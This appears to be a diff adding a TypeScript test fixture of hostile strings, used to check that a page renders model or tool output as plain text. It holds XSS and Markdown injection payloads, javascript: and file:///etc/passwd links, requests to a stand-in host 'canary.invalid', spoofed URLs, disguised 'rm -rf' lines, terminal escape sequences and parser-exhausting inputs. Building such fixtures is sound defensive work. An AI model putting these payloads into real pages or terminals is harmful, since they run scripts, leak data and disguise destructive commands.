@@ -1,0 +1,135 @@
+/**
+ * What a model may say or a tool may print to make a page do something: run code, fetch from
+ * elsewhere, look like something it is not. Shown anywhere, all of it is text.
+ *
+ * `canary.invalid` never resolves; a request to it is a failure of the page.
+ */
+const HOST = "canary.invalid";
+const AT = `http://${HOST}`;
+
+/** Markup that would run or fetch if it became markup. */
+const MARKUP: readonly string[] = [
+  "<script>alert(1)</script>",
+  `<script src=${AT}/a.js></script>`,
+  "<img src=x onerror=alert(2)>",
+  `<img src="${AT}/pixel.png" srcset="${AT}/2x.png 2x">`,
+  "<svg onload=alert(3)><circle r=1 /></svg>",
+  `<svg><image href="${AT}/svg.png"/><use href="${AT}/u.svg#x"/></svg>`,
+  "<svg><animate onbegin=alert(4) attributeName=x dur=1s>",
+  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(5)&gt;'>",
+  `<iframe src="${AT}/frame"></iframe>`,
+  "<iframe srcdoc='<script>parent.alert(6)</script>'></iframe>",
+  `<object data="${AT}/o"></object><embed src="${AT}/e">`,
+  `<link rel=stylesheet href=${AT}/s.css><link rel=prefetch href=${AT}/p>`,
+  `<link rel=dns-prefetch href=//${HOST}><link rel=preconnect href=//${HOST}>`,
+  `<style>*{background:url(${AT}/bg.png)}@import "${AT}/i.css";</style>`,
+  `<div style="background:url(${AT}/inline.png)">styled</div>`,
+  `<base href="${AT}/">`,
+  `<meta http-equiv=refresh content="0;url=${AT}/refresh">`,
+  `<form action="${AT}/post"><button autofocus onfocus=alert(7)>go</button></form>`,
+  `<a href="${AT}" ping="${AT}/ping">ping</a>`,
+  `<video poster="${AT}/poster.png" src="${AT}/v.mp4" autoplay></video><audio src=${AT}/a.mp3>`,
+  "<details open ontoggle=alert(8)><summary>x</summary></details>",
+  "<input autofocus onfocus=alert(9)><select onfocus=alert(10) autofocus>",
+  "<body onload=alert(11)><marquee onstart=alert(12)>",
+  "<template><script>alert(13)</script></template>",
+  "<noscript><p title='</noscript><img src=x onerror=alert(14)>'>",
+  "<xmp><img src=x onerror=alert(15)></xmp>",
+  '"><img src=x onerror=alert(16)>',
+  "'><svg/onload=alert(17)>",
+  "</title></textarea></style></script><script>alert(18)</script>",
+  "<!--><img src=x onerror=alert(19)>-->",
+  "<![CDATA[<img src=x onerror=alert(20)>]]>",
+  "<scr<script>ipt>alert(21)</scr</script>ipt>",
+  "<IMG SRC=JaVaScRiPt:alert(22)>",
+  '<a href="jav\tascript:alert(23)">tab</a>',
+  "&lt;script&gt;alert(24)&lt;/script&gt;",
+  "&#60;img src=x onerror=alert(25)&#62;",
+  "&#x3c;svg onload=alert(26)&#x3e;",
+  "{{constructor.constructor('alert(27)')()}} ${alert(28)} <%= alert(29) %>",
+  "<custom-element onclick=alert(30) is=x-y>custom</custom-element>",
+  "<portal src=x><fencedframe><dialog open onclose=alert(31)>",
+];
+
+/** Markdown that makes links, pictures and code of what it should not. */
+const MARKDOWN: readonly string[] = [
+  `![pixel](${AT}/x.png)`,
+  `![pixel](${AT}/x.png "title" )`,
+  `![][canary]\n\n[canary]: ${AT}/ref.png`,
+  `[![nested](${AT}/in.png)](${AT}/out)`,
+  `[click](javascript:alert(40))`,
+  "[click](JaVaScRiPt:alert(41))",
+  "[click](java&#115;cript:alert(42))",
+  "[click](javascript&colon;alert(43))",
+  "[click](&#x6A;avascript:alert(44))",
+  "[click](\u0001javascript:alert(45))",
+  "[click](data:text/html,<script>alert(46)</script>)",
+  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCg0Nyk8L3NjcmlwdD4=)",
+  "[click](vbscript:msgbox(48))",
+  "[click](file:///etc/passwd)",
+  "[click](blob:http://localhost/x)",
+  "[click](view-source:http://localhost/)",
+  "[click](intent://x#Intent;scheme=http;end)",
+  "<javascript:alert(49)>",
+  `<${AT}/auto>`,
+  `[a](${AT}/"onmouseover="alert(50))`,
+  `[a](<${AT}/ onclick=alert(51)>)`,
+  `[https://github.com](${AT}/looks-like-another)`,
+  `[text](https://github.com@${HOST}/user-info)`,
+  `[text](https://github.com%2f@${HOST}/)`,
+  "[text](https://xn--pple-43d.com/)",
+  "[text](https://\u0430pple.com/)",
+  `[text](//${HOST}/no-scheme)`,
+  "[text](/api/auth/logout)",
+  "[text](#composer)",
+  `[ref]: javascript:alert(52)\n\n[ref]`,
+  "```html\n<script>alert(53)</script>\n```",
+  "```js onload=alert(54)\nalert(54)\n```",
+  '```"><img src=x onerror=alert(55)>\ncode\n```',
+  "`<img src=x onerror=alert(56)>`",
+  "| <img src=x onerror=alert(57)> | b |\n| --- | --- |\n| <script>alert(58)</script> | c |",
+  "- [ ] <img src=x onerror=alert(59)>",
+  "# <svg onload=alert(60)>",
+  "> <iframe src=javascript:alert(61)>",
+  "~~<b onclick=alert(62)>struck</b>~~",
+  "$$\\href{javascript:alert(63)}{x}$$",
+  "```mermaid\ngraph TD; A[<img src=x onerror=alert(64)>]\n```",
+];
+
+/** Characters that make a text look like another, and sequences meant for a terminal. */
+const CHARACTERS: readonly string[] = [
+  "rm -rf /tmp/x \u202e# cod.exe",
+  "\u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069 \u202aembed\u202c \u202dover\u202c",
+  "zero\u200bwidth\u200c\u200d\u2060\ufeff\u00ad\u034f\u061c\u180e",
+  "tags \u{e0041}\u{e0042}\u{e007f} selectors a\ufe00\ufe0e\u{e0100}",
+  "fillers \u115f\u1160\u3164\uffa0\u2800",
+  "safe\rrm -rf ~",
+  "back\b\b\b\bspace \u0007bell \u0000nul \u007fdel \u0085nel \u009b31mc1",
+  "\u001b[31mred\u001b[0m \u001b[8mhidden\u001b[0m \u001b[2J\u001b[H\u001b[1A\u001b[2K cleared",
+  `\u001b]8;;${AT}/osc8\u0007a link\u001b]8;;\u0007`,
+  `\u001b]8;;javascript:alert(70)\u001b\\a link\u001b]8;;\u001b\\`,
+  "\u001b]0;another title\u0007 \u001b]52;c;Y2xpcGJvYXJk\u0007",
+  "\u001bP+q544e\u001b\\ \u001b_application\u001b\\ \u001b^private\u001b\\ \u001bXsos\u001b\\",
+  "\u001b]unfinished string that never ends",
+  "\u009d8;;http://canary.invalid/c1\u009clink\u009d8;;\u009c",
+  "combining " + "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308".repeat(20),
+  "\ufdfd\ufdfd\ufdfd \u{12031} \u1242b wide",
+  "line\u2028separator\u2029paragraph",
+  "שלום (hello) مرحبا [world] 123",
+];
+
+/** Shapes that make a parser slow or deep. */
+const SHAPES: readonly string[] = [
+  `${">".repeat(500)} quote`,
+  `${"- ".repeat(200)}list`,
+  `${"[".repeat(2_000)}x${"]".repeat(2_000)}`,
+  "*a_".repeat(800),
+  `${"`".repeat(1_001)}x`,
+  `${"![".repeat(500)}](x)`,
+  `|${"a|".repeat(300)}\n|${"-|".repeat(300)}\n|${"b|".repeat(300)}`,
+  "<".repeat(3_000),
+  "&amp;".repeat(2_000),
+  "a".repeat(20_000),
+];
+
+export const HOSTILE_TEXTS: readonly string[] = [...MARKUP, ...MARKDOWN, ...CHARACTERS, ...SHAPES];
